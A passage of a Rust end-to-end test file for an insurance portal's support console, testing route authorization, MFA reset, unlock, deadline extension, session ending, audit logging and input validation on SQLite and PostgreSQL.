//! The support console end to
//! end over real HTTP: authorization for every console route (walked from the router's own
//! table), each action over the API and through the confirm pages with its audit row, the rules
//! (who may act on whom, reasons, days, stale forms, step-up, the hourly limit), the emails users
//! get, the enrollment report, the audit exports, user search and staff accounts — on SQLite and
//! (when configured) PostgreSQL.

use std::collections::{BTreeMap, BTreeSet};

use portal_core::RequestContext;
use portal_core::audit::{AuditEvent, AuditFilter, Outcome};
use portal_core::auth::NewAccount;
use portal_core::clock::Clock;
use portal_core::console::{ConsoleAction, SupportActor};
use portal_core::email::Email;
use portal_core::mfa::throttle::{LOCK_AFTER, SecondFactorThrottle};
use portal_core::password::NewPassword;
use portal_core::random::OsRandom;
use portal_core::user::{DisplayName, Role, User, UserId};
use portal_testkit::reqwest::{Client, Method, StatusCode, header};
use portal_testkit::{AppOptions, Backend, TEST_PASSWORD, TestApp, hidden_input};
use serde_json::{Value, json};
use time::Duration;
use time::macros::{date, datetime};

use crate::common::*;

const BOB: &str = "bob@example.com";
const SUE: &str = "sue@example.com"; // a support agent
const SAM: &str = "sam@example.com"; // another support agent
const ROOT: &str = "root@example.com"; // an administrator
const ADJ: &str = "adj@example.com"; // an adjuster
const REASON: &str = "called in, identity checked by phone";

// ----- Signing people in -------------------------------------------------------------------------

/// A staff member fully signed in with MFA (a fresh second factor: step-up is valid for ten
/// minutes), with the app's secret kept for stepping up again later.
struct Staff {
    email: String,
    id: String,
    client: Client,
    secret: String,
}

async fn signed_in_staff(app: &TestApp, email: &str, role: Role) -> Staff {
    let user = app.create_user(email, role).await;
    let client = app.client();
    let secret = enroll_totp(app, &client, email).await;
    Staff { email: email.to_owned(), id: user.id.as_str().to_owned(), client, secret }
}

impl Staff {
    /// Verifies again with the app (the clock moves to its next step first).
    async fn step_up(&self, app: &TestApp) {
        verify(app, &self.client, "totp", &next_totp(app, &self.secret)).await.assert_authenticated();
    }

    /// Signs in again from scratch, e.g. after the session timed out.
    async fn sign_in_again(&self, app: &TestApp) {
        app.clock.advance(Duration::seconds(30));
        let a = login(app, &self.client, &self.email).await;
        assert_eq!(a.json["state"], "mfa_required", "{}", a.text);
        verify(app, &self.client, "totp", &app.oathtool_code(&self.secret)).await.assert_authenticated();
    }

    async fn get(&self, app: &TestApp, path: &str) -> Answer {
        get(app, &self.client, path).await
    }

    async fn act(&self, app: &TestApp, user_id: &str, action: &str, body: Value) -> Answer {
        post(app, &self.client, &format!("/api/v1/admin/users/{user_id}/{action}"), body).await
    }

    /// The admin API's view of one user (with `version`, `sessions`, …).
    async fn user(&self, app: &TestApp, user_id: &str) -> Value {
        let a = self.get(app, &format!("/api/v1/admin/users/{user_id}")).await;
        a.assert_ok();
        a.json
    }

    async fn audit(&self, app: &TestApp, query: &str) -> Vec<Value> {
        let a = self.get(app, &format!("/api/v1/admin/audit?{query}")).await;
        a.assert_ok();
        a.events()
    }

    /// Opens an action's confirm page: (csrf, version, page).
    async fn confirm_page(&self, app: &TestApp, user_id: &str, action: &str) -> (String, String, Answer) {
        let page = self.get(app, &format!("/console/users/{user_id}/{action}")).await;
        page.assert_ok();
        let csrf = hidden_input(&page.text, "csrf").expect("a CSRF token on the confirm page");
        let version = hidden_input(&page.text, "version").expect("a version on the confirm page");
        (csrf, version, page)
    }

    /// Submits an action's confirm form with this session's current token and `version`.
    async fn submit(
        &self,
        app: &TestApp,
        user_id: &str,
        action: &str,
        version: &str,
        extra: &[(&str, &str)],
    ) -> Answer {
        let (csrf, _, _) = self.confirm_page(app, user_id, action).await;
        let mut fields = vec![("csrf", csrf.as_str()), ("version", version)];
        fields.extend_from_slice(extra);
        post_form(app, &self.client, &format!("/console/users/{user_id}/{action}"), &fields).await
    }
}

/// A portal with MFA on, Sue (support) signed in, and Ann, a policyholder who has not signed in.
async fn sue_and_ann(backend: Backend) -> (TestApp, Staff, User) {
    let app = mfa_app(backend).await;
    let sue = signed_in_staff(&app, SUE, Role::Support).await;
    let ann = app.create_user(ANN, Role::Policyholder).await;
    (app, sue, ann)
}

/// [`sue_and_ann`], with Ann signed in by text message on (201) 555-0123 in the client returned.
async fn sue_and_ann_by_text(backend: Backend) -> (TestApp, Staff, User, Client) {
    let (app, sue, ann) = sue_and_ann(backend).await;
    let client = app.client();
    enroll_sms(&app, &client, ANN, "(201) 555-0123").await;
    (app, sue, ann, client)
}

/// A policyholder who set the app up and is fully signed in: (user, client, secret).
async fn signed_in_policyholder(app: &TestApp, email: &str) -> (User, Client, String) {
    let user = app.create_user(email, Role::Policyholder).await;
    let client = app.client();
    let secret = enroll_totp(app, &client, email).await;
    (user, client, secret)
}

/// 100 consecutive wrong codes, as the verification endpoint records them: the account locks.
/// The lock at 100 wrong codes without the pauses on the way there (which would take days of
/// the test's clock): a wrong code is only counted while the account is not paused.
fn lock_without_pauses(failures: u32, _now: time::OffsetDateTime) -> SecondFactorThrottle {
    SecondFactorThrottle {
        consecutive_failures: failures,
        paused_until: None,
        locked: failures >= LOCK_AFTER,
        refusal_audited_at: None,
    }
}

async fn lock_out(app: &TestApp, user: &User) {
    let ctx = RequestContext::new(Some("127.0.0.1".into()), None);
    for _ in 0..100 {
        let now = app.clock.now();
        let audit = AuditEvent::new(now, "mfa.verify", Outcome::Failure, &ctx)
            .actor(user.email.as_str())
            .subject(Some(&user.id), user.email.as_str());
        app.portal
            .store()
            .record_second_factor_failure(&user.id, now, lock_without_pauses, None, &audit)
            .await
            .unwrap()
            .unwrap();
    }
}

/// The one audit row of `action` about `user`, checked for actor, subject, reason, outcome, ip.
#[track_caller]
fn assert_staff_event(events: &[Value], action: &str, actor: &str, subject: &str, reason: &str) -> Value {
    let found: Vec<&Value> = events.iter().filter(|e| e["action"] == action).collect();
    assert_eq!(found.len(), 1, "one {action} event in {events:#?}");
    let e = found[0];
    assert_eq!(e["actor"], actor, "{e}");
    assert_eq!(e["subject"], subject, "{e}");
    assert_eq!(e["details"]["reason"], reason, "{e}");
    assert_eq!(e["outcome"], "success", "{e}");
    assert_eq!(e["ip"], "127.0.0.1", "{e}");
    assert!(e["at"].as_str().is_some_and(|t| t.starts_with("2026-")), "{e}");
    e.clone()
}

/// Every `support.*` row in the audit log (read from the store, not through the console).
async fn support_events(app: &TestApp) -> Vec<String> {
    let all = app.portal.store().audit_events(&AuditFilter { limit: 10_000, ..AuditFilter::default() }).await.unwrap();
    all.into_iter().map(|r| r.event.action).filter(|a| a.starts_with("support.")).collect()
}

/// The CSRF token of whatever session `client` holds (from the first page that has one).
async fn page_csrf(app: &TestApp, client: &Client) -> String {
    for path in ["/", "/mfa/setup", "/mfa/verify", "/mfa", "/login"] {
        let page = get(app, client, path).await;
        if let Some(token) = hidden_input(&page.text, "csrf") {
            return token;
        }
    }
    "no-token".to_owned()
}

// ----- 1. Authorization for every console route ---------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// Not signed in: 401 from the API, to /login from the pages.
    SignIn,
    /// Password only: 401 from the API, to /mfa from the pages.
    FinishMfa,
    /// Signed in but not support/admin: 403 everywhere.
    Forbidden,
}

/// Calls every method of each of `routes` as `client` and lists each answer that is not `expect`.
async fn walk_console(
    app: &TestApp,
    routes: &[(String, &'static [&'static str])],
    client: &Client,
    who: &str,
    subject_id: &str,
    expect: Expect,
) -> Vec<String> {
    let csrf = page_csrf(app, client).await;
    let mut problems = Vec::new();
    for (route, methods) in routes {
        let path = route.replace("{id}", subject_id).replace("{action}", "unlock");
        let api = path.starts_with("/api/");
        for method in methods.iter() {
            let request = match *method {
                "GET" => client.get(app.url(&path)),
                "POST" if api => client.post(app.url(&path)).json(&json!({ "reason": "x" })),
                "POST" => client.post(app.url(&path)).form(&[("csrf", csrf.as_str()), ("reason", "x")]),
                other => panic!("{route} answers {other}: teach this test how to call it"),
            };
            let a = answer(request.send().await.unwrap()).await;
            let ok = match (expect, api) {
                (Expect::SignIn | Expect::FinishMfa, true) => {
                    a.status == StatusCode::UNAUTHORIZED && a.code() == "not_signed_in"
                }
                (Expect::SignIn, false) => a.is_redirect_to("/login"),
                (Expect::FinishMfa, false) => a.is_redirect_to("/mfa"),
                (Expect::Forbidden, true) => a.status == StatusCode::FORBIDDEN && a.code() == "forbidden",
                (Expect::Forbidden, false) => a.status == StatusCode::FORBIDDEN,
            };
            if !ok {
                let body: String = a.text.chars().take(120).collect();
                problems.push(format!("{who}: {method} {path} → {} {:?} {body}", a.status, a.location));
            }
        }
    }
    problems
}

/// Walks `routes` as someone not signed in, a fully signed-in policyholder and adjuster (MFA
/// done), and a support agent who gave only the password; asserts every answer, that nobody
/// acted on anyone, and that an administrator reaches every GET route.
async fn assert_console_authorization(backend: Backend, routes: Vec<(String, &'static [&'static str])>) {
    let app = mfa_app(backend).await;
    let subject = app.create_user(BOB, Role::Policyholder).await;
    let id = subject.id.as_str();
    let mut problems = Vec::new();

    problems.extend(walk_console(&app, &routes, &app.client(), "anonymous", id, Expect::SignIn).await);

    let (_, policyholder, _) = signed_in_policyholder(&app, ANN).await;
    assert_eq!(me(&app, &policyholder).await.json["role"], "policyholder");
    problems.extend(walk_console(&app, &routes, &policyholder, "policyholder", id, Expect::Forbidden).await);

    let adjuster = signed_in_staff(&app, ADJ, Role::Adjuster).await;
    assert_eq!(me(&app, &adjuster.client).await.json["role"], "adjuster");
    problems.extend(walk_console(&app, &routes, &adjuster.client, "adjuster", id, Expect::Forbidden).await);

    // A support agent who gave only the password (first sign-in: the app is not set up yet).
    app.create_user(SAM, Role::Support).await;
    let half = app.client();
    assert_eq!(login(&app, &half, SAM).await.json["state"], "mfa_setup_required");
    problems.extend(walk_console(&app, &routes, &half, "half-signed-in support", id, Expect::FinishMfa).await);

    assert!(problems.is_empty(), "{} wrong answers:\n{}", problems.len(), problems.join("\n"));
    assert_eq!(support_events(&app).await, Vec::<String>::new(), "nobody above acted on anyone");

    // The walk is meaningful: an administrator reaches every page and read-only endpoint.
    let admin = signed_in_staff(&app, ROOT, Role::Admin).await;
    for (route, methods) in &routes {
        if !methods.contains(&"GET") {
            continue;
        }
        let path = route.replace("{id}", id).replace("{action}", "unlock");
        let a = admin.get(&app, &path).await;
        if path == "/console" {
            a.assert_redirect("/console/users");
        } else {
            assert_eq!(a.status, StatusCode::OK, "admin GET {path}: {}", a.text);
        }
    }
}

/// The console's root, which answers everyone with a redirect (see the ignored test below).
const CONSOLE_ROOT: &str = "/console";

#[tokio::test]
async fn every_console_route_refuses_everyone_but_fully_signed_in_support_and_admins() {
    let routes = portal_web::console_routes();
    let paths: BTreeSet<&str> = routes.iter().map(|(p, _)| p.as_str()).collect();
    for expected in [
        "/console/users/{id}/{action}",
        "/console/report/chart.csv",
        "/api/v1/admin/users/{id}/{action}",
        "/api/v1/admin/audit",
    ] {
        assert!(paths.contains(expected), "{expected} in {paths:?}");
    }
    assert!(routes.iter().all(|(p, _)| p.starts_with("/console") || p.starts_with("/api/v1/admin/")), "{paths:?}");
    // Every route but the root (its bug has a test of its own); when that is fixed, walk them all.
    assert!(routes.len() >= 15, "{routes:?}");
    each_backend(|backend| assert_console_authorization(backend, routes.clone())).await;
}

#[tokio::test]
async fn the_console_root_refuses_everyone_but_fully_signed_in_support_and_admins() {
    let routes: Vec<_> = portal_web::console_routes().into_iter().filter(|(p, _)| p == CONSOLE_ROOT).collect();
    assert_eq!(routes.len(), 1);
    each_backend(|backend| assert_console_authorization(backend, routes.clone())).await;
}

// ----- 2. Each action over the API -----------------------------------------------------------------

#[tokio::test]
async fn support_extends_a_deadline_over_the_api_and_it_is_audited() {
    each_backend(|backend| async move {
        let (app, sue, ann) = sue_and_ann(backend).await;
        let id = ann.id.as_str();
        let before = sue.user(&app, id).await;
        assert_eq!(before["setup_deadline"], "2026-04-16");

        let a = sue.act(&app, id, "extend-deadline", json!({ "days": 7, "reason": REASON })).await;
        a.assert_ok();
        assert_eq!(a.json["id"], id);
        assert_eq!(a.json["email"], ANN);
        assert_eq!(a.json["mfa_state"], "setup_pending");
        assert_eq!(a.json["methods"], json!([]));
        assert_eq!(a.json["setup_deadline"], "2026-03-09", "today (2026-03-02) + 7");

        let events = sue.audit(&app, &format!("user={id}&action=support.mfa.extend_deadline")).await;
        let e = assert_staff_event(&events, "support.mfa.extend_deadline", SUE, ANN, REASON);
        assert_eq!(e["details"]["days"], 7);
        assert_eq!(e["details"]["new_deadline"], "2026-03-09");

        let signed_in = login(&app, &app.client(), ANN).await;
        assert_eq!(signed_in.json["setup_deadline"], "2026-03-09", "{}", signed_in.text);
        assert_eq!(signed_in.json["days_left"], 7);
    })
    .await;
}

#[tokio::test]
async fn support_sees_recovery_codes_and_remembered_devices_and_a_reset_removes_them() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, ann_client, secret) = signed_in_policyholder(&app, ANN).await;
        let id = ann.id.as_str();
        post(&app, &ann_client, "/api/v1/mfa/recovery-codes", json!({})).await.assert_ok();
        post(&app, &ann_client, "/api/v1/logout", json!({})).await;
        login(&app, &ann_client, ANN).await;
        let body = json!({ "method": "totp", "code": next_totp(&app, &secret), "remember_device": true });
        post(&app, &ann_client, "/api/v1/mfa/verify", body).await.assert_ok();

        let seen = sue.user(&app, id).await;
        assert_eq!((seen["recovery_codes_left"].clone(), seen["remembered_devices"].clone()), (json!(10), json!(1)));
        let page = sue.get(&app, &format!("/console/users/{id}")).await;
        assert!(page.text.contains("<dt>Recovery codes left</dt><dd>10</dd>"), "{}", page.text);
        assert!(page.text.contains("<dt>Remembered devices</dt><dd>unknown device, until 2026-04-01"), "{}", page.text);

        sue.act(&app, id, "reset-mfa", json!({ "reason": "lost phone" })).await.assert_ok();
        let after = sue.user(&app, id).await;
        assert_eq!((after["recovery_codes_left"].clone(), after["remembered_devices"].clone()), (json!(0), json!(0)));
        // The device cookie no longer skips anything: Ann sets a method up again.
        assert_eq!(login(&app, &ann_client, ANN).await.json["state"], "mfa_setup_required");
    })
    .await;
}

#[tokio::test]
async fn support_resets_mfa_over_the_api_ending_sessions_and_voiding_the_old_app() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, ann_client, old_secret) = signed_in_policyholder(&app, ANN).await;
        let id = ann.id.as_str();
        me(&app, &ann_client).await.assert_ok();
        assert_eq!(sue.user(&app, id).await["sessions"], 1);

        let a = sue.act(&app, id, "reset-mfa", json!({ "reason": "lost phone" })).await;
        a.assert_ok();
        assert_eq!(a.json["mfa_state"], "setup_pending");
        assert_eq!(a.json["methods"], json!([]));
        assert_eq!(a.json["setup_deadline"], "2026-03-09", "support_grace_days (7) from today");
        let after = sue.user(&app, id).await;
        assert_eq!(after["sessions"], 0);

        // Every session of the user ended.
        me(&app, &ann_client).await.assert_error(StatusCode::UNAUTHORIZED, "not_signed_in");

        let events = sue.audit(&app, &format!("user={id}&action=support.mfa.reset")).await;
        let e = assert_staff_event(&events, "support.mfa.reset", SUE, ANN, "lost phone");
        assert_eq!(e["details"]["sessions_ended"], 1, "{e}");

        // The old app's codes no longer sign in: the user must set a method up again.
        let client = app.client();
        let again = login(&app, &client, ANN).await;
        again.assert_ok();
        assert_eq!(again.json["state"], "mfa_setup_required", "{}", again.text);
        assert_eq!(again.json["setup_deadline"], "2026-03-09");
        assert_eq!(again.json["days_left"], 7);
        let old = verify(&app, &client, "totp", &next_totp(&app, &old_secret)).await;
        assert!(old.status.is_client_error() && old.json.get("state").is_none(), "{} {}", old.status, old.text);
        me(&app, &client).await.assert_error(StatusCode::UNAUTHORIZED, "not_signed_in");

        // Setting a new app up works; the old one's codes stay dead.
        let new_secret = add_totp(&app, &client).await;
        assert_ne!(new_secret, old_secret);
        let returning = app.client();
        app.clock.advance(Duration::seconds(30));
        assert_eq!(login(&app, &returning, ANN).await.json["state"], "mfa_required");
        verify(&app, &returning, "totp", &app.oathtool_code(&old_secret))
            .await
            .assert_error(StatusCode::BAD_REQUEST, "invalid_code");
        verify(&app, &returning, "totp", &app.oathtool_code(&new_secret)).await.assert_authenticated();
    })
    .await;
}

#[tokio::test]
async fn support_unlocks_a_locked_out_user_over_the_api() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, _, secret) = signed_in_policyholder(&app, ANN).await;
        let id = ann.id.as_str();
        lock_out(&app, &ann).await;

        let client = app.client();
        app.clock.advance(Duration::seconds(30));
        assert_eq!(login(&app, &client, ANN).await.json["state"], "mfa_required");
        let locked = verify(&app, &client, "totp", &app.oathtool_code(&secret)).await;
        locked.assert_error(StatusCode::TOO_MANY_REQUESTS, "account_locked");
        let view = sue.user(&app, id).await;
        assert_eq!(view["mfa_state"], "locked", "{view}");
        assert_eq!(view["consecutive_failures"], 100, "{view}");

        let a = sue.act(&app, id, "unlock", json!({ "reason": REASON })).await;
        a.assert_ok();
        assert_eq!(a.json["mfa_state"], "enrolled");
        assert_eq!(a.json["methods"], json!(["totp"]));
        assert_eq!(sue.user(&app, id).await["consecutive_failures"], 0);

        let events = sue.audit(&app, &format!("user={id}&action=support.mfa.unlock")).await;
        assert_staff_event(&events, "support.mfa.unlock", SUE, ANN, REASON);

        verify(&app, &client, "totp", &next_totp(&app, &secret)).await.assert_authenticated();
        assert_eq!(me(&app, &client).await.json["email"], ANN);
    })
    .await;
}

#[tokio::test]
async fn support_ends_a_users_sessions_over_the_api() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, laptop, secret) = signed_in_policyholder(&app, ANN).await;
        let id = ann.id.as_str();
        let phone = app.client();
        app.clock.advance(Duration::seconds(30));
        assert_eq!(login(&app, &phone, ANN).await.json["state"], "mfa_required");
        verify(&app, &phone, "totp", &app.oathtool_code(&secret)).await.assert_authenticated();
        assert_eq!(sue.user(&app, id).await["sessions"], 2);

        let a = sue.act(&app, id, "end-sessions", json!({ "reason": "stolen laptop" })).await;
        a.assert_ok();
        assert_eq!(a.json["mfa_state"], "enrolled", "sessions end, methods stay");
        for client in [&laptop, &phone] {
            me(&app, client).await.assert_error(StatusCode::UNAUTHORIZED, "not_signed_in");
        }
        assert_eq!(sue.user(&app, id).await["sessions"], 0);
        me(&app, &sue.client).await.assert_ok();

        let events = sue.audit(&app, &format!("user={id}&action=support.end_sessions")).await;
        let e = assert_staff_event(&events, "support.end_sessions", SUE, ANN, "stolen laptop");
        assert_eq!(e["details"]["sessions_ended"], 2, "{e}");
    })
    .await;
}

// ----- 3. The same actions through the pages -------------------------------------------------------

#[tokio::test]
async fn every_action_works_through_its_confirm_page() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, ann_client, _) = signed_in_policyholder(&app, ANN).await;
        let id = ann.id.as_str();

        let signed_in_at = app.clock.now();
        let user_page = sue.get(&app, &format!("/console/users/{id}")).await;
        user_page.assert_ok();
        assert!(user_page.text.contains(ANN), "{}", user_page.text);
        let at = format!("{} {:02}:{:02} UTC", signed_in_at.date(), signed_in_at.hour(), signed_in_at.minute());
        assert!(user_page.text.contains(&format!("<dt>Last sign-in</dt><dd>{at}</dd>")), "{}", user_page.text);
        let newcomer = app.create_user("newcomer@example.com", Role::Policyholder).await;
        let page = sue.get(&app, &format!("/console/users/{}", newcomer.id)).await;
        assert!(page.text.contains("<dt>Last sign-in</dt><dd>never</dd>"), "{}", page.text);
        for action in ["extend-deadline", "reset-mfa", "unlock", "end-sessions"] {
            assert!(user_page.text.contains(&format!("/console/users/{id}/{action}")), "a link to {action}");
        }

        let steps = [
            ("extend-deadline", "The deadline was extended", Some("7")),
            ("unlock", "The account was unlocked", None),
            ("end-sessions", "Every session of this user was ended", None),
            ("reset-mfa", "MFA was reset", None),
        ];
        for (action, notice, days) in steps {
            let (csrf, version, page) = sue.confirm_page(&app, id, action).await;
            assert!(page.text.contains("What will happen"), "{action}: {}", page.text);
            assert!(page.text.contains(ANN), "{action} names the user");
            assert_eq!(page.text.contains("name=\"days\""), action == "extend-deadline", "{action}");
            let reason = format!("{action} asked for by phone");
            let mut fields = vec![("csrf", csrf.as_str()), ("version", version.as_str()), ("reason", reason.as_str())];
            fields.extend(days.map(|d| ("days", d)));
            let done = post_form(&app, &sue.client, &format!("/console/users/{id}/{action}"), &fields).await;
            let target = format!("/console/users/{id}?done={action}");
            done.assert_redirect(&target);
            let shown = sue.get(&app, &target).await;
            shown.assert_ok();
            assert!(shown.text.contains(notice), "{action}: {}", shown.text);

            let audit_action = match action {
                "extend-deadline" => "support.mfa.extend_deadline",
                "reset-mfa" => "support.mfa.reset",
                "unlock" => "support.mfa.unlock",
                _ => "support.end_sessions",
            };
            let events = sue.audit(&app, &format!("user={id}&action={audit_action}")).await;
            assert_staff_event(&events, audit_action, SUE, ANN, &reason);
        }

        let view = sue.user(&app, id).await;
        assert_eq!(view["methods"], json!([]), "{view}");
        assert_eq!(view["setup_deadline"], "2026-03-09", "{view}");
        me(&app, &ann_client).await.assert_error(StatusCode::UNAUTHORIZED, "not_signed_in");

        // A form without the session's token changes nothing.
        let (_, version, _) = sue.confirm_page(&app, id, "unlock").await;
        let forged = post_form(
            &app,
            &sue.client,
            &format!("/console/users/{id}/unlock"),
            &[("csrf", "forged"), ("version", &version), ("reason", "x")],
        )
        .await;
        assert_eq!(forged.status, StatusCode::FORBIDDEN, "{}", forged.text);
        assert_eq!(sue.audit(&app, &format!("user={id}&action=support.mfa.unlock")).await.len(), 1);
    })
    .await;
}

// ----- 4. An extension lets a past-deadline user set MFA up ----------------------------------------

#[tokio::test]
async fn an_extension_from_the_console_lets_a_past_deadline_user_set_up() {
    each_backend(|backend| async move {
        let app = TestApp::spawn_with(backend, AppOptions::mfa_from(date!(2025 - 12 - 01))).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let ann = app.create_user_at(ANN, Role::Policyholder, Some(datetime!(2025-12-01 12:00 UTC))).await;
        let client = app.client();
        let refused = login(&app, &client, ANN).await;
        refused.assert_error(StatusCode::FORBIDDEN, "mfa_setup_expired");
        assert_eq!(refused.json["error"]["setup_deadline"], "2026-01-15");
        let view = sue.user(&app, ann.id.as_str()).await;
        assert_eq!(view["mfa_state"], "setup_expired");
        assert_eq!(view["setup_deadline"], "2026-01-15");

        let a = sue.act(&app, ann.id.as_str(), "extend-deadline", json!({ "days": 7, "reason": REASON })).await;
        a.assert_ok();
        assert_eq!(a.json["mfa_state"], "setup_pending");
        assert_eq!(a.json["setup_deadline"], "2026-03-09");

        let a = login(&app, &client, ANN).await;
        a.assert_ok();
        assert_eq!(a.json["state"], "mfa_setup_required");
        assert_eq!(a.json["days_left"], 7);
        assert_eq!(a.json["setup_deadline"], "2026-03-09");
        add_totp(&app, &client).await;
        assert_eq!(sue.user(&app, ann.id.as_str()).await["mfa_state"], "enrolled");
    })
    .await;
}

// ----- 5. The rules ------------------------------------------------------------------------------

#[tokio::test]
async fn support_acts_on_policyholders_only_admins_on_staff_and_nobody_on_themselves() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let sam = signed_in_staff(&app, SAM, Role::Support).await;
        let adj = signed_in_staff(&app, ADJ, Role::Adjuster).await;
        let root = signed_in_staff(&app, ROOT, Role::Admin).await;
        sue.step_up(&app).await;

        let body = json!({ "reason": REASON });
        for (who, target) in [("an adjuster", &adj.id), ("another agent", &sam.id), ("an admin", &root.id)] {
            for action in ["unlock", "reset-mfa", "end-sessions"] {
                sue.act(&app, target, action, body.clone()).await.assert_error(StatusCode::FORBIDDEN, "forbidden");
            }
            let page = sue.get(&app, &format!("/console/users/{target}/unlock")).await;
            assert_eq!(page.status, StatusCode::FORBIDDEN, "support's confirm page for {who}");
        }
        for action in ["unlock", "reset-mfa", "end-sessions"] {
            sue.act(&app, &sue.id, action, body.clone()).await.assert_error(StatusCode::FORBIDDEN, "forbidden");
        }
        assert_eq!(sue.get(&app, &format!("/console/users/{}/unlock", sue.id)).await.status, StatusCode::FORBIDDEN);
        assert_eq!(support_events(&app).await, Vec::<String>::new(), "nothing was done");
        me(&app, &sam.client).await.assert_ok();
        me(&app, &root.client).await.assert_ok();

        // An administrator acts on a support agent, but not on themselves.
        root.step_up(&app).await;
        let a = root.act(&app, &sam.id, "unlock", body.clone()).await;
        a.assert_ok();
        assert_eq!(a.json["role"], "support");
        let a = root.act(&app, &sam.id, "end-sessions", body.clone()).await;
        a.assert_ok();
        me(&app, &sam.client).await.assert_error(StatusCode::UNAUTHORIZED, "not_signed_in");
        let events = root.audit(&app, &format!("user={}&action=support.end_sessions", sam.id)).await;
        assert_staff_event(&events, "support.end_sessions", ROOT, SAM, REASON);
        // Staff have no setup deadline to extend.
        root.act(&app, &sam.id, "extend-deadline", json!({ "days": 7, "reason": REASON }))
            .await
            .assert_error(StatusCode::CONFLICT, "staff_have_no_deadline");
        for action in ["unlock", "reset-mfa", "end-sessions"] {
            root.act(&app, &root.id, action, body.clone()).await.assert_error(StatusCode::FORBIDDEN, "forbidden");
        }
        me(&app, &root.client).await.assert_ok();
        assert_eq!(
            root.get(&app, &format!("/console/users/{}/reset-mfa", root.id)).await.status,
            StatusCode::FORBIDDEN
        );
        assert_eq!(root.user(&app, &root.id).await["methods"], json!(["totp"]));
    })
    .await;
}

#[tokio::test]
async fn bad_input_is_refused_naming_the_field_and_changes_nothing() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, _, _) = signed_in_policyholder(&app, ANN).await;
        let id = ann.id.as_str();

        // Unknown users and actions.
        let unknown = UserId::generate(&OsRandom);
        sue.act(&app, unknown.as_str(), "unlock", json!({ "reason": REASON }))
            .await
            .assert_error(StatusCode::NOT_FOUND, "not_found");
        sue.act(&app, "not-an-id", "unlock", json!({ "reason": REASON }))
            .await
            .assert_error(StatusCode::NOT_FOUND, "not_found");
        assert_eq!(
            sue.get(&app, &format!("/api/v1/admin/users/{}", unknown.as_str())).await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(sue.get(&app, &format!("/console/users/{}", unknown.as_str())).await.status, StatusCode::NOT_FOUND);
        assert_eq!(
            sue.act(&app, id, "delete-account", json!({ "reason": REASON })).await.status,
            StatusCode::NOT_FOUND
        );

        // Days: 1–90, required for an extension.
        for days in [json!(0), json!(91)] {
            sue.act(&app, id, "extend-deadline", json!({ "days": days, "reason": REASON })).await.assert_field("days");
        }
        sue.act(&app, id, "extend-deadline", json!({ "reason": REASON })).await.assert_field("days");
        sue.act(&app, id, "extend-deadline", json!({ "days": -1, "reason": REASON })).await.assert_field("days");

        // A reason: required, not blank, at most 500 characters.
        for action in ["extend-deadline", "reset-mfa", "unlock", "end-sessions"] {
            sue.act(&app, id, action, json!({ "days": 7 })).await.assert_field("reason");
            for blank in ["", "   ", "\n\t"] {
                sue.act(&app, id, action, json!({ "days": 7, "reason": blank })).await.assert_field("reason");
            }
            sue.act(&app, id, action, json!({ "days": 7, "reason": "x".repeat(501) })).await.assert_field("reason");
        }
        // The same through the page: the form comes back with the message.
        let (_, version, _) = sue.confirm_page(&app, id, "extend-deadline").await;
        for (days, reason) in [("0", REASON), ("91", REASON), ("seven", REASON), ("7", "  ")] {
            let page = sue.submit(&app, id, "extend-deadline", &version, &[("days", days), ("reason", reason)]).await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "days {days:?} reason {reason:?}");
            assert!(page.text.contains("field-error"), "{}", page.text);
        }
        assert_eq!(support_events(&app).await, Vec::<String>::new(), "nothing was done");
        let view = sue.user(&app, id).await;
        assert_eq!((&view["methods"], &view["setup_deadline"]), (&json!(["totp"]), &json!("2026-04-16")));

        // 500 characters is fine.
        sue.act(&app, id, "unlock", json!({ "reason": "x".repeat(500) })).await.assert_ok();

        // A stale version: the account changed since the agent looked.
        let old_version = sue.user(&app, id).await["version"].as_str().unwrap().to_owned();
        sue.act(&app, id, "extend-deadline", json!({ "days": 10, "reason": REASON })).await.assert_ok();
        sue.act(&app, id, "reset-mfa", json!({ "reason": REASON, "version": old_version }))
            .await
            .assert_error(StatusCode::CONFLICT, "changed");
        assert_eq!(sue.user(&app, id).await["methods"], json!(["totp"]), "the reset did not happen");
        let (_, page_version, _) = sue.confirm_page(&app, id, "reset-mfa").await;
        assert_ne!(page_version, old_version);
        sue.act(&app, id, "end-sessions", json!({ "reason": REASON })).await.assert_ok();
        let stale = sue.submit(&app, id, "reset-mfa", &page_version, &[("reason", REASON)]).await;
        assert_eq!(stale.status, StatusCode::CONFLICT, "{}", stale.text);
        assert!(stale.text.contains("changed since you opened the page"), "{}", stale.text);
        assert_eq!(sue.user(&app, id).await["methods"], json!(["totp"]), "the reset did not happen");
        // The refusal carries the current version: confirming again works.
        let fresh = hidden_input(&stale.text, "version").unwrap();
        assert_ne!(fresh, page_version);
        sue.submit(&app, id, "reset-mfa", &fresh, &[("reason", REASON)])
            .await
            .assert_redirect(&format!("/console/users/{id}?done=reset-mfa"));
        assert_eq!(sue.user(&app, id).await["methods"], json!([]));
        // The current version from the API works too.
        let current = sue.user(&app, id).await["version"].as_str().unwrap().to_owned();
        sue.act(&app, id, "unlock", json!({ "reason": REASON, "version": current })).await.assert_ok();
    })
    .await;
}

#[tokio::test]
async fn console_actions_need_a_second_factor_from_the_last_ten_minutes() {
    each_backend(|backend| async move {
        let (app, sue, ann) = sue_and_ann(backend).await;
        let id = ann.id.as_str();
        let (_, version, _) = sue.confirm_page(&app, id, "unlock").await;

        app.clock.advance(Duration::minutes(11));
        sue.act(&app, id, "unlock", json!({ "reason": REASON }))
            .await
